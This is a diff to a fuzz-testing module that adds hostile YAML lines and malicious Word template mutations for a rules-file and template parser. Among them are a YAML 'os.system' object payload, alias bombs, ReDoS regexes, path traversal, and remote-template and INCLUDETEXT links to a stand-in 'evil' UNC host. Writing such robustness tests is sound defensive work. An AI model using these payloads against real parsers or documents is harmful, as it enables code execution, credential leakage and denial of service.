@@ -369,3 +369,85 @@ XML_DAMAGE = [
     (b'Target="', b'Target="../../../../etc/'),
     (b'Target="', b'Target="/'),
 ]
+
+
+# --- Rules files and templates ----------------------------------------------------------------
+
+# Lines that try to make a rules file hang, exhaust memory, run code or slip past its checks.
+HOSTILE_YAML = [
+    "x: &a [1, 2, 3]\ny: [*a, *a, *a, *a]",
+    "a0: &a0 [x, x, x, x, x, x, x, x, x, x]\na1: &a1 [*a0, *a0, *a0, *a0, *a0, *a0, *a0, *a0]",
+    "deep: " + "[" * 200 + "]" * 200,
+    "deep: " + "{a: " * 100 + "1" + "}" * 100,
+    "obj: !!python/object/apply:os.system ['echo pwned']",
+    "tagged: !custom value",
+    "regex: '(a+)+$'",
+    "          schema: {regex: '(a+)+$'}",
+    "          schema: {regex: '(a)\\1'}",
+    "          schema: {regex: '(?<=a)b'}",
+    "          schema: {regex: '['}",
+    '    colour: "FF0000\\n"',
+    '    colour: "#12345G"',
+    '  - id: "bad id\\n"',
+    "version: 99999999999999999999999",
+    "version: .inf",
+    "no_date_words: *undefined",
+    "sheets: {}",
+    "'\\u0000': nul",
+    "? [complex, key]\n: value",
+    "%YAML 1.1\n---",
+    "--- !!binary |\n  R0lGODlh",
+    "\t tab: indented",
+]
+
+
+def mutated_rules_text(base: str) -> st.SearchStrategy[str]:
+    """The shipped rules with lines deleted, duplicated, swapped, cut or hostile lines added."""
+    lines = base.splitlines()
+
+    @st.composite
+    def mutate(draw: st.DrawFn) -> str:
+        text = list(lines)
+        for _ in range(draw(st.integers(1, 4))):
+            if not text:
+                break
+            where = draw(st.integers(0, len(text) - 1))
+            action = draw(st.sampled_from(["delete", "duplicate", "hostile", "cut", "unicode"]))
+            if action == "delete":
+                del text[where]
+            elif action == "duplicate":
+                text.insert(where, text[where])
+            elif action == "hostile":
+                text.insert(where, draw(st.sampled_from(HOSTILE_YAML)))
+            elif action == "cut":
+                text[where] = text[where][: draw(st.integers(0, len(text[where])))]
+            else:
+                text[where] += draw(unicode_text)
+        return "\n".join(text) + "\n"
+
+    return mutate()
+
+
+# Changes to a Word template's parts: active content, links out, damage and odd ids.
+TEMPLATE_DAMAGE = [
+    (b"<w:r>", b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT '
+     b'"\\\\\\\\evil\\\\x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r>'),
+    (b"<w:r>", b'<w:r><w:fldSimple w:instr=" INCLUDEPICTURE x"/></w:r><w:r>'),
+    (b"<w:r>", b"<w:r><w:object/></w:r><w:r>"),
+    (b"<w:body>", b'<w:body><w:altChunk r:id="rId1"/>'),
+    (b"?>", b'?><!DOCTYPE x [<!ENTITY a "b">]>'),
+    (b'w:styleId="', b'w:styleId="&amp;&quot;/&gt;'),
+    (b'w:styleId="', b'w:styleId="x y'),
+    (b"</Relationships>", b'<Relationship Id="rIdE" Type="http://schemas.openxmlformats.org/'
+     b'officeDocument/2006/relationships/attachedTemplate" Target="\\\\evil\\t.dotm" '
+     b'TargetMode="External"/></Relationships>'),
+    (b"</Relationships>", b'<Relationship Id="rIdO" Type="http://schemas.openxmlformats.org/'
+     b'officeDocument/2006/relationships/oleObject" Target="embeddings/x.bin"/>'
+     b"</Relationships>"),
+    (b'Target="', b'Target="../../../../etc/'),
+    (b"<w:style ", b"<w:style "),
+    (b"</w:styles>", b""),
+    (b"<w:sectPr", b"<w:sectPr><w:pgSz w:w='-1' w:h='99999999999'/></w:sectPr><w:sectPr"),
+    (b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document',
+     b'ContentType="application/vnd.ms-word.document.macroEnabled'),
+]  # fmt: skip
